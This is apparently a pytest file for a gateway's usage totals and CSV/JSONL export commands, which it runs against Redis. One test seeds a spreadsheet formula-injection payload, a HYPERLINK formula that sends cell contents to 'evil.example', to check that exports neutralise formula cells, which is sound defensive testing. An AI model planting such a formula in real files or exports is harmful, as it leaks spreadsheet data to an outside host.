"""``gateway usage totals|export`` as an operator runs it: a subprocess against a real Redis."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import yaml
from redis.asyncio import Redis

from gateway.limits.limiter import Limiter
from gateway.metering.ledger import FIELDS, iso_ms
from gateway.metering.metrics import Metrics
from gateway.metering.settle_queue import Settlement, SettleQueue
from gateway.redisdb.keys import RedisKeys
from tests.admin.test_usage_api import seed
from tests.metering.test_ledger import DAY, T0, settlement
from tests.support.procs import free_port

ROOT = str(Path(__file__).resolve().parents[2])


def gateway(*args: str, redis_url: str, config: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "REDIS_URL": redis_url, "PYTHONPATH": ROOT}
    return subprocess.run([sys.executable, "-m", "gateway", "usage", *args, "--config", str(config)], env=env,
                          capture_output=True, text=True, timeout=120, cwd=ROOT)


def write_config(tmp_path: Path) -> Path:
    path = tmp_path / "gateway.yaml"
    path.write_text(yaml.safe_dump({"redis": {"key_prefix": "igw:"}}))
    return path


async def test_totals_equal_the_admin_api_figures(redis_url: str, tmp_path: Path) -> None:
    await seed(redis_url, {"alice": 4})
    cfg = write_config(tmp_path)
    out = gateway("totals", "--user", "alice", "--period", DAY, redis_url=redis_url, config=cfg)
    assert out.returncode == 0, out.stderr
    totals = json.loads(out.stdout)
    assert (totals["user"], totals["period"], totals["requests"], totals["images"]) == ("alice", DAY, 4, 4)
    assert totals["total_tokens"] == 4 * 4170 and totals["usd"] == "0.665860"


async def test_export_csv_and_jsonl_with_progress(redis_url: str, tmp_path: Path) -> None:
    await seed(redis_url, {"alice": 1200, "bob": 3})
    cfg = write_config(tmp_path)
    window = ["--from", iso_ms(T0 - 1000), "--to", iso_ms(T0 + 3_600_000)]
    out = gateway("export", *window, "--format", "csv", redis_url=redis_url, config=cfg)
    assert out.returncode == 0, out.stderr
    rows = list(csv.reader(io.StringIO(out.stdout)))
    assert rows[0] == list(FIELDS) and len(rows) == 1 + 1203
    assert "exported 1203 records" in out.stderr
    target = tmp_path / "bob.jsonl"
    out = gateway("export", *window, "--user", "bob", "--output", str(target), redis_url=redis_url, config=cfg)
    assert out.returncode == 0 and out.stdout == ""
    # JSONL by default, as GET /admin/usage/records.
    records = [json.loads(line) for line in target.read_text().splitlines()]
    assert [r["request_id"] for r in records] == ["bob-0", "bob-1", "bob-2"]


def test_bad_arguments_exit_2_and_redis_down_exits_1(redis_url: str, tmp_path: Path) -> None:
    cfg = write_config(tmp_path)
    bad = gateway("totals", "--user", "alice", "--period", "2026/11", redis_url=redis_url, config=cfg)
    assert bad.returncode == 2 and "period" in bad.stderr
    bad = gateway("export", "--from", "2026-11-25", "--to", "2026-11-24", redis_url=redis_url, config=cfg)
    assert bad.returncode == 2 and "from" in bad.stderr
    down = gateway("totals", "--user", "alice", "--period", DAY, redis_url=f"redis://127.0.0.1:{free_port()}/0",
                   config=cfg)
    assert down.returncode == 1 and "Redis unavailable" in down.stderr


async def test_export_csv_holds_no_formula_cell(redis_url: str, tmp_path: Path) -> None:
    # A record written before size and quality were checked for every model (or by a future field).
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Invoice")'
    s = settlement("old-1", "alice", T0)
    client = Redis.from_url(redis_url)
    try:
        queue = SettleQueue(Limiter(client, RedisKeys(), lease_ms=60_000), Metrics(), redis=client)
        await queue.settle(Settlement(s.admission, s.usage, {**s.record, "size": formula, "quality": "-1+2"}))
    finally:
        await client.aclose()
    out = gateway("export", "--from", iso_ms(T0 - 1000), "--to", iso_ms(T0 + 1000), "--format", "csv",
                  redis_url=redis_url, config=write_config(tmp_path))
    assert out.returncode == 0, out.stderr
    header, row = list(csv.reader(io.StringIO(out.stdout, newline="")))
    assert row[header.index("size")] == "'" + formula and row[header.index("quality")] == "'-1+2"
    assert not [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


async def test_an_unwritable_output_is_reported_as_a_file_error_not_redis(redis_url: str, tmp_path: Path) -> None:
    await seed(redis_url, {"alice": 3})
    cfg = write_config(tmp_path)
    window = ["--from", iso_ms(T0 - 1000), "--to", iso_ms(T0 + 3_600_000)]
    cases = [(str(tmp_path / "missing-dir" / "out.csv"), "No such file or directory"),
             (str(tmp_path), "Is a directory"),
             ("/dev/full", "No space left on device")]  # opens fine, fails on write
    for target, reason in cases:
        out = gateway("export", *window, "--output", target, redis_url=redis_url, config=cfg)
        assert out.returncode == 1
        assert f"error: cannot write {target}: {reason}" in out.stderr
        assert "Redis" not in out.stderr and "Traceback" not in out.stderr
